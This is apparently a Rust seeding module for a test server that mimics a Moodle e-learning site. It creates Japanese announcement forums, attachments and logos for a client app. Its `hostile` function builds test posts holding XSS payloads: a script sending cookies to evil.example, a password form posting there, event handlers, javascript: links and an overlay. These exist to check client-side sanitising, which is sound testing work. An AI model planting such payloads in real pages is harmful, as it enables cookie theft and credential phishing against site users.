//! Announcements (お知らせ): a news forum in the site course, each facility course and the
//! iCROWN course, with posts as a facility's administrator writes them (which units are
//! required, deadlines, whom to ask), and facility logos; then each learner's popup
//! notifications (`notifications.rs`), some pointing at these posts.
//!
//! Times are relative to the seeding clock, so "newest" is the same in every test. Posts are
//! written by site and facility staff with Moodle's "trusted text" (`messagetrust = 1`), so the
//! site sends their HTML as written, hostile parts included: making it safe is the client's
//! job, and one post per facility checks that it does.

use std::collections::HashMap;

use rusqlite::{Transaction, params};

use super::courses;
use super::news_files::{self, FileData};
use crate::db::{ContextLevel, SITE_COURSE_ID};
use crate::media::MediaStore;

const HOUR: i64 = 3600;
const DAY: i64 = 24 * HOUR;
/// The site administrator, who writes the site's announcements.
const ADMIN_USER_ID: i64 = 2;

/// A file an announcement or a course carries, once stored.
#[derive(Debug, Clone)]
pub(crate) struct StoredFile {
    pub(crate) filename: &'static str,
    pub(crate) mimetype: &'static str,
    pub(crate) contenthash: String,
    pub(crate) filesize: i64,
}

/// The stored files, by key.
#[derive(Debug, Clone, Default)]
pub(crate) struct NewsFiles {
    by_key: HashMap<&'static str, StoredFile>,
}

impl NewsFiles {
    /// Makes the files and stores them in the media directory (every start: a regenerated
    /// media directory gets them back; the bytes, and so their hashes, never change).
    pub(crate) fn store(media: &MediaStore) -> anyhow::Result<NewsFiles> {
        let mut by_key = HashMap::new();
        for (key, data) in file_data() {
            let contenthash = media.store_bytes(&data.bytes)?;
            let stored = StoredFile {
                filename: data.filename,
                mimetype: data.mimetype,
                contenthash,
                filesize: data.bytes.len() as i64,
            };
            by_key.insert(key, stored);
        }
        Ok(NewsFiles { by_key })
    }

    fn get(&self, key: &str) -> anyhow::Result<&StoredFile> {
        self.by_key
            .get(key)
            .ok_or_else(|| anyhow::anyhow!("no seeded file {key}"))
    }
}

fn file_data() -> Vec<(&'static str, FileData)> {
    vec![
        ("logo-a", news_files::logo("logo.png", [0, 84, 147])),
        ("logo-b", news_files::logo("logo.png", [0, 128, 96])),
        ("schedule", news_files::schedule_chart("schedule.png")),
        (
            "guide-a",
            news_files::guide_pdf(
                "2025年度_受講案内.pdf",
                "National Cancer Center Hospital (NCCH-BASIC)",
                &[
                    "Required: Basic knowledge of clinical research (all lectures and its test)",
                    "Required: Continuing training FY2024",
                    "Deadline: 2026-03-31",
                    "Certificates: one per unit, valid for one year",
                    "Contact: Clinical Research Support Office, ext. 3021",
                ],
            ),
        ),
        (
            "guide-b",
            news_files::guide_pdf(
                "2025年度_受講案内.pdf",
                "Shonan Kamakura General Hospital (SKGH-CUSTOM)",
                &[
                    "Required for everyone: Basic knowledge of clinical research",
                    "Required for CRCs: CRC course; for IRB members: IRB course",
                    "Deadline: 2026-02-27",
                    "Contact: Clinical Research Center office, ext. 7740",
                ],
            ),
        ),
        (
            "contacts-a",
            news_files::text(
                "問い合わせ先.txt",
                "国立がん研究センター中央病院 施設コース 問い合わせ先\n\n\
                 受講方法・修了証: 研究支援センター 教育担当（内線 3021）\n\
                 ログインできない場合: ICRweb 事務局（icrweb-office@example.jp）\n\
                 受付時間: 平日 9:00〜17:00\n",
            ),
        ),
        (
            "contacts-b",
            news_files::text(
                "問い合わせ先.txt",
                "湘南鎌倉総合病院 施設コース 問い合わせ先\n\n\
                 受講方法: 臨床研究センター 事務局（内線 7740）\n\
                 CRC 講座について: CRC 室（内線 7745）\n\
                 受付時間: 平日 8:30〜17:00\n",
            ),
        ),
    ]
}

/// Who writes a course's announcements.
struct Author {
    username: &'static str,
    lastname: &'static str,
    firstname: &'static str,
}

const NCCH_OFFICE: Author = Author {
    username: "ncch-office",
    lastname: "研究支援センター",
    firstname: "教育担当",
};

const SKGH_OFFICE: Author = Author {
    username: "skgh-office",
    lastname: "臨床研究センター",
    firstname: "事務局",
};

/// The facility staff accounts the seed adds (they write announcements; they cannot sign in).
#[cfg(test)]
pub(crate) const STAFF: &[&str] = &[NCCH_OFFICE.username, SKGH_OFFICE.username];

/// One announcement: a discussion with its first post (and, rarely, a follow-up).
struct Announcement {
    subject: &'static str,
    /// HTML; `@@PLUGINFILE@@/name` for the post's own inline files.
    message: String,
    /// How long before the seeding it was posted.
    age: i64,
    pinned: bool,
    /// Keys of `NewsFiles` shown inline (`mod_forum/post`).
    inline: &'static [&'static str],
    /// Keys of `NewsFiles` attached (`mod_forum/attachment`).
    attachments: &'static [&'static str],
    /// A follow-up post by the same author, this long before the seeding.
    follow_up: Option<(&'static str, i64)>,
    /// Shown only from this long after the seeding (a timed post), 0: at once.
    starts_in: i64,
}

impl Announcement {
    fn new(subject: &'static str, message: impl Into<String>, age: i64) -> Announcement {
        Announcement {
            subject,
            message: message.into(),
            age,
            pinned: false,
            inline: &[],
            attachments: &[],
            follow_up: None,
            starts_in: 0,
        }
    }
}

/// A course's news forum and what is in it.
struct NewsForum {
    /// The course's shortname; `None` for the site course.
    course: Option<&'static str>,
    name: &'static str,
    author: Option<&'static Author>,
    logo: Option<&'static str>,
    announcements: Vec<Announcement>,
}

fn forums() -> Vec<NewsForum> {
    vec![
        NewsForum {
            course: None,
            name: "サイトからのお知らせ",
            author: None,
            logo: None,
            announcements: site_announcements(),
        },
        NewsForum {
            course: Some(courses::FACILITY_A.shortname),
            name: "ユーザーへのお知らせ",
            author: Some(&NCCH_OFFICE),
            logo: Some("logo-a"),
            announcements: facility_a(),
        },
        NewsForum {
            course: Some(courses::FACILITY_B.shortname),
            name: "ユーザーへのお知らせ",
            author: Some(&SKGH_OFFICE),
            logo: Some("logo-b"),
            announcements: facility_b(),
        },
        NewsForum {
            course: Some(courses::ICROWN.shortname),
            name: "お知らせ",
            author: None,
            logo: None,
            announcements: icrown(),
        },
    ]
}

fn site_announcements() -> Vec<Announcement> {
    vec![
        Announcement {
            pinned: true,
            ..Announcement::new(
                "【重要】システムメンテナンスのお知らせ（12月14日）",
                "<p>ICRweb は次の日時にメンテナンスのため停止します。停止中は講義の視聴・確認テストの受験ができません。</p>\
                 <ul><li>日時: 12月14日（日）2:00〜6:00</li><li>対象: ICRweb の全サービス（アプリを含む）</li></ul>\
                 <p>視聴中の履歴は端末に保存され、再開後に送信されます。</p>",
                20 * DAY,
            )
        },
        Announcement::new(
            "新しい講座「研究倫理 2025」を公開しました",
            "<p>人を対象とする生命科学・医学系研究に関する倫理指針の改正に対応した講座を公開しました。\
             施設コースに追加されるかは各施設の管理者にお問い合わせください。</p>\
             <p><a href=\"https://www.icrweb.jp/\">ICRweb トップページ</a></p>",
            9 * DAY,
        ),
        Announcement::new(
            "個人情報の取り扱いについて（改定）",
            "<p>ICRweb の個人情報の取り扱いを改定しました。主な変更点は修了証の保存期間（5年）です。</p>",
            2 * DAY + 5 * HOUR,
        ),
    ]
}

fn facility_a() -> Vec<Announcement> {
    vec![
        Announcement {
            pinned: true,
            ..Announcement::new(
                "【必須】2025年度 受講必須講座と受講期限",
                "<p>2025年度は次の講座の受講が必須です。各講座の確認テストに合格すると修了証が発行されます。</p>\
                 <ol><li>臨床研究の基礎知識講座（全講義と確認テスト）</li><li>2024年度 継続研修用講座</li></ol>\
                 <p><strong>受講期限: 2026年3月31日（火）</strong></p>\
                 <p>不明な点は研究支援センター 教育担当（内線 3021）までお問い合わせください。</p>",
                12 * DAY,
            )
        },
        Announcement {
            inline: &["schedule"],
            ..Announcement::new(
                "受講スケジュール（年間）",
                "<p>年間の受講スケジュールです。上期に基礎知識講座、下期に継続研修を受講してください。</p>\
                 <p><img src=\"@@PLUGINFILE@@/schedule.png\" alt=\"2025年度の受講スケジュール\" width=\"480\" height=\"200\"></p>",
                8 * DAY,
            )
        },
        Announcement {
            attachments: &["guide-a", "contacts-a"],
            follow_up: Some((
                "<p>追記: 受講案内の PDF を差し替えました（問い合わせ先の内線番号を修正）。</p>",
                10 * HOUR,
            )),
            ..Announcement::new(
                "受講案内（PDF）と問い合わせ先",
                "<p>施設コースの受講案内と問い合わせ先を添付します。新しく登録された方は必ずお読みください。</p>",
                4 * DAY,
            )
        },
        hostile("【表示確認】書式の崩れたお知らせ", DAY),
        Announcement {
            starts_in: 5 * DAY,
            ..Announcement::new(
                "【予告】2026年度 施設コード更新のお知らせ",
                "<p>2026年4月1日に施設コードが更新されます。新しい施設コードは3月中にお知らせします。</p>",
                0,
            )
        },
    ]
}

fn facility_b() -> Vec<Announcement> {
    vec![
        Announcement {
            pinned: true,
            ..Announcement::new(
                "【必須】独自コースの受講講座（職種別）",
                "<p>当院の独自コースでは職種ごとに受講する講座が決まっています。</p>\
                 <ul><li>全員: 臨床研究の基礎知識講座</li><li>CRC: CRC のための講座</li>\
                 <li>倫理審査委員: 倫理審査委員のための講座</li></ul>\
                 <p><strong>受講期限: 2026年2月27日（金）</strong></p>",
                15 * DAY,
            )
        },
        Announcement {
            inline: &["schedule"],
            ..Announcement::new(
                "受講スケジュールの目安",
                "<p>受講の目安は下の図のとおりです。</p>\
                 <p><img src=\"@@PLUGINFILE@@/schedule.png\" alt=\"受講スケジュールの図\"></p>",
                6 * DAY,
            )
        },
        Announcement {
            attachments: &["guide-b", "contacts-b"],
            ..Announcement::new(
                "受講案内（PDF）を掲載しました",
                "<p>受講案内と問い合わせ先を添付します。</p>",
                3 * DAY,
            )
        },
        hostile("【表示確認】不正な HTML を含むお知らせ", 2 * HOUR),
    ]
}

fn icrown() -> Vec<Announcement> {
    vec![
        Announcement::new(
            "2025年度 iCROWN 研修のご案内",
            "<p>参加医療機関の皆さまは、2025年度中に全ての講座を受講してください。第3講座は第2講座の修了後に受講できます。</p>",
            10 * DAY,
        ),
        Announcement::new(
            "有事対応訓練の日程について",
            "<p>有事対応訓練は11月に実施予定です。詳細は追ってお知らせします。</p>",
            5 * DAY,
        ),
    ]
}

/// An announcement carrying what a site's HTML may hold and a client must not run or show
/// as is: script, event handlers, a `javascript:` link, an iframe, a form, an overlay that
/// escapes its box, and a huge body.
fn hostile(subject: &'static str, age: i64) -> Announcement {
    let mut message = String::from(
        "<p>表示確認用のお知らせです。アプリはこの内容を安全に表示しなければなりません。</p>\
         <script>document.location='https://evil.example/steal?c='+document.cookie</script>\
         <p><img src=\"https://evil.example/pixel.png\" onerror=\"alert('onerror')\" alt=\"外部の画像\"></p>\
         <p><a href=\"javascript:alert('link')\">ここをクリックして登録を完了してください</a></p>\
         <p><a href=\"JaVaScRiPt:alert(1)\" onclick=\"alert('click')\">大文字小文字を混ぜたリンク</a></p>\
         <iframe src=\"https://evil.example/frame\" width=\"800\" height=\"600\"></iframe>\
         <div style=\"position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff\">画面全体を覆う表示</div>\
         <p style=\"font-size:400px;margin-left:-9999px\">はみ出す文字</p>\
         <svg onload=\"alert('svg')\"><circle r=\"10\"></circle></svg>\
         <form action=\"https://evil.example/login\"><input name=\"password\" type=\"password\"><button>送信</button></form>\
         <object data=\"https://evil.example/flash.swf\"></object>\
         <p><a href=\"https://www.icrweb.jp/\">ICRweb（正しいリンク）</a></p>",
    );
    for n in 1..=400 {
        message.push_str(&format!(
            "<p>長文の確認 {n}: 臨床研究に関する倫理指針では、研究責任者は研究計画書を作成し、\
             倫理審査委員会の意見を聴いた上で研究機関の長の許可を受けなければならない。</p>"
        ));
    }
    Announcement::new(subject, message, age)
}

/// Seeded discussions by (course shortname, `None` for the site; subject).
pub(super) type SeededByKey = HashMap<(Option<&'static str>, &'static str), Seeded>;

/// A seeded discussion, for notifications to point at.
#[derive(Debug, Clone)]
pub(super) struct Seeded {
    pub(super) course: i64,
    pub(super) cmid: i64,
    pub(super) forum: i64,
    pub(super) forum_name: &'static str,
    pub(super) author: i64,
    pub(super) discussion: i64,
    pub(super) post: i64,
    pub(super) message: String,
}

/// On a database without announcements (new, or seeded before they existed): the news forums,
/// their posts and files, the facility logos and the learners' notifications. Returns whether
/// it added them.
pub(crate) fn add_news(tx: &Transaction<'_>, files: &NewsFiles, now: i64) -> anyhow::Result<bool> {
    let has_forums: bool =
        tx.query_row("SELECT EXISTS (SELECT 1 FROM forum)", [], |row| row.get(0))?;
    if has_forums {
        return Ok(false);
    }
    let seeder = NewsSeeder { tx, files, now };
    let mut seeded = SeededByKey::new();
    for forum in forums() {
        seeded.extend(seeder.forum(&forum)?);
    }
    super::notifications::add_notifications(tx, &seeded, now)?;
    Ok(true)
}

struct NewsSeeder<'a> {
    tx: &'a Transaction<'a>,
    files: &'a NewsFiles,
    now: i64,
}

impl NewsSeeder<'_> {
    fn course_id(&self, shortname: Option<&str>) -> anyhow::Result<i64> {
        let Some(shortname) = shortname else {
            return Ok(SITE_COURSE_ID);
        };
        Ok(self.tx.query_row(
            "SELECT id FROM course WHERE shortname = ?1",
            [shortname],
            |row| row.get(0),
        )?)
    }

    fn context(&self, level: ContextLevel, instanceid: i64) -> rusqlite::Result<i64> {
        self.tx.execute(
            "INSERT OR IGNORE INTO context (contextlevel, instanceid) VALUES (?1, ?2)",
            params![level as i64, instanceid],
        )?;
        self.tx.query_row(
            "SELECT id FROM context WHERE contextlevel = ?1 AND instanceid = ?2",
            params![level as i64, instanceid],
            |row| row.get(0),
        )
    }

    /// The author's user id, creating the account (which cannot sign in) if needed.
    fn author(&self, author: Option<&Author>) -> anyhow::Result<i64> {
        let Some(author) = author else {
            return Ok(ADMIN_USER_ID);
        };
        self.tx.execute(
            "INSERT OR IGNORE INTO user (username, password, firstname, lastname, email, timecreated)
             VALUES (?1, '!', ?2, ?3, '', ?4)",
            params![author.username, author.firstname, author.lastname, self.now],
        )?;
        Ok(self.tx.query_row(
            "SELECT id FROM user WHERE username = ?1",
            [author.username],
            |row| row.get(0),
        )?)
    }

    /// Section 0 of a course (the site course has none until its first module).
    fn section_zero(&self, courseid: i64) -> rusqlite::Result<i64> {
        self.tx.execute(
            "INSERT OR IGNORE INTO course_sections (course, section, name) VALUES (?1, 0, '')",
            [courseid],
        )?;
        self.tx.query_row(
            "SELECT id FROM course_sections WHERE course = ?1 AND section = 0",
            [courseid],
            |row| row.get(0),
        )
    }

    fn forum(&self, plan: &NewsForum) -> anyhow::Result<SeededByKey> {
        let courseid = self.course_id(plan.course)?;
        let author = self.author(plan.author)?;
        if let Some(logo) = plan.logo {
            self.logo(courseid, self.files.get(logo)?)?;
        }
        // Moodle's news forum: everyone subscribed, tracking optional.
        self.tx.execute(
            "INSERT INTO forum (course, type, name, intro, forcesubscribe, trackingtype, timemodified)
             VALUES (?1, 'news', ?2, ?3, 1, 1, ?4)",
            params![
                courseid,
                plan.name,
                "<p>コースの管理者からのお知らせです。</p>",
                self.now
            ],
        )?;
        let forumid = self.tx.last_insert_rowid();
        let sectionid = self.section_zero(courseid)?;
        // First in section 0, before anything already there, as Moodle adds it.
        self.tx.execute(
            "UPDATE course_modules SET position = position + 1 WHERE section = ?1",
            [sectionid],
        )?;
        self.tx.execute(
            "INSERT INTO course_modules (course, section, position, module, instance, added)
             VALUES (?1, ?2, 0, 'forum', ?3, ?4)",
            params![courseid, sectionid, forumid, self.now],
        )?;
        let cmid = self.tx.last_insert_rowid();
        let contextid = self.context(ContextLevel::Module, cmid)?;
        let mut seeded = SeededByKey::new();
        for announcement in &plan.announcements {
            let (discussion, post) =
                self.announcement(courseid, forumid, contextid, author, announcement)?;
            seeded.insert(
                (plan.course, announcement.subject),
                Seeded {
                    course: courseid,
                    cmid,
                    forum: forumid,
                    forum_name: plan.name,
                    author,
                    discussion,
                    post,
                    message: announcement.message.clone(),
                },
            );
        }
        Ok(seeded)
    }

    /// The course image (`course/overviewfiles`).
    fn logo(&self, courseid: i64, file: &StoredFile) -> anyhow::Result<()> {
        let contextid = self.context(ContextLevel::Course, courseid)?;
        self.file(contextid, "course", "overviewfiles", 0, file)
    }

    fn file(
        &self,
        contextid: i64,
        component: &str,
        filearea: &str,
        itemid: i64,
        file: &StoredFile,
    ) -> anyhow::Result<()> {
        self.tx.execute(
            "INSERT OR IGNORE INTO files (contenthash, contextid, component, filearea, itemid, filepath,
                                filename, filesize, mimetype, userid, license, timecreated, timemodified)
             VALUES (?1, ?2, ?3, ?4, ?5, '/', ?6, ?7, ?8, ?9, 'allrightsreserved', ?10, ?10)",
            params![
                file.contenthash,
                contextid,
                component,
                filearea,
                itemid,
                file.filename,
                file.filesize,
                file.mimetype,
                ADMIN_USER_ID,
                self.now
            ],
        )?;
        Ok(())
    }

    /// Returns (discussion id, first post id).
    fn announcement(
        &self,
        courseid: i64,
        forumid: i64,
        contextid: i64,
        author: i64,
        plan: &Announcement,
    ) -> anyhow::Result<(i64, i64)> {
        let created = self.now - plan.age;
        let modified = plan.follow_up.map_or(created, |(_, age)| self.now - age);
        let timestart = if plan.starts_in > 0 {
            self.now + plan.starts_in
        } else {
            0
        };
        self.tx.execute(
            "INSERT INTO forum_discussions (course, forum, name, firstpost, userid, timemodified,
                                            usermodified, timestart, pinned)
             VALUES (?1, ?2, ?3, 0, ?4, ?5, ?4, ?6, ?7)",
            params![
                courseid,
                forumid,
                plan.subject,
                author,
                modified,
                timestart,
                plan.pinned
            ],
        )?;
        let discussion = self.tx.last_insert_rowid();
        let attachment = if plan.attachments.is_empty() { "" } else { "1" };
        let post = self.post(
            discussion,
            0,
            author,
            created,
            plan.subject,
            &plan.message,
            attachment,
        )?;
        self.tx.execute(
            "UPDATE forum_discussions SET firstpost = ?2 WHERE id = ?1",
            params![discussion, post],
        )?;
        for key in plan.inline {
            self.file(contextid, "mod_forum", "post", post, self.files.get(key)?)?;
        }
        for key in plan.attachments {
            self.file(
                contextid,
                "mod_forum",
                "attachment",
                post,
                self.files.get(key)?,
            )?;
        }
        if let Some((message, age)) = plan.follow_up {
            let subject = format!("Re: {}", plan.subject);
            self.post(
                discussion,
                post,
                author,
                self.now - age,
                &subject,
                message,
                "",
            )?;
        }
        Ok((discussion, post))
    }

    #[allow(clippy::too_many_arguments)]
    fn post(
        &self,
        discussion: i64,
        parent: i64,
        author: i64,
        created: i64,
        subject: &str,
        message: &str,
        attachment: &str,
    ) -> rusqlite::Result<i64> {
        self.tx.execute(
            "INSERT INTO forum_posts (discussion, parent, userid, created, modified, subject,
                                      message, messagetrust, attachment)
             VALUES (?1, ?2, ?3, ?4, ?4, ?5, ?6, 1, ?7)",
            params![
                discussion, parent, author, created, subject, message, attachment
            ],
        )?;
        Ok(self.tx.last_insert_rowid())
    }
}

/// The subjects of the seeded announcements, for tests: (course shortname or `None` for the
/// site, subject, pinned, shown at seeding).
#[cfg(test)]
pub(crate) fn announcement_subjects() -> Vec<(Option<&'static str>, &'static str, bool, bool)> {
    forums()
        .into_iter()
        .flat_map(|forum| {
            forum
                .announcements
                .into_iter()
                .map(move |a| (forum.course, a.subject, a.pinned, a.starts_in == 0))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_facility_forum_has_each_kind_of_announcement() {
        for forum in forums().iter().filter(|f| f.logo.is_some()) {
            let all = &forum.announcements;
            assert!((3..=5).contains(&all.len()), "{:?}", forum.course);
            assert_eq!(all.iter().filter(|a| a.pinned).count(), 1);
            assert!(
                all.iter()
                    .any(|a| a.message.contains("@@PLUGINFILE@@/") && !a.inline.is_empty())
            );
            assert!(all.iter().any(|a| !a.attachments.is_empty()));
            assert!(
                all.iter()
                    .any(|a| a.message.contains("<script>") && a.message.len() > 50_000)
            );
        }
    }
}
